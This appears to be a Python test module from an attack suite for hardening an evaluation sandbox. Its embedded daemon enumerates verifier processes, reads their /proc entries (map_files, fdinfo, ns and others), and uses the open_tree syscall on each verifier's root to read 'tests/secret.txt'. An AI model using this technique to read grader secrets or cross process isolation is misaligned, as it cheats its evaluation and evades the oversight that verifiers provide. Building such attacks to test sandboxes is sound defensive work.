"""Reads what can be read of open files: /proc/PID/map_files, /proc/locks, mount file descriptors of others.

Source: man 5 proc; man 2 open_tree (a detached copy of another's mounts).
"""

from attacks.frame import SEEN, Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon("""
for pid in verifiers():
    for folder in ("map_files", "fdinfo", "ns", "attr", "net"):
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/{folder}"):
                with contextlib.suppress(OSError):
                    keep(open(f"/proc/{pid}/{folder}/{name}", "rb").read(4096))
    tree = libc.syscall(428, -100, f"/proc/{pid}/root".encode(), 1)
    if tree >= 0:
        with contextlib.suppress(OSError):
            keep(os.pread(os.open("tests/secret.txt", os.O_RDONLY, dir_fd=tree), 4096, 0))
"""),
    ran=SEEN,
)
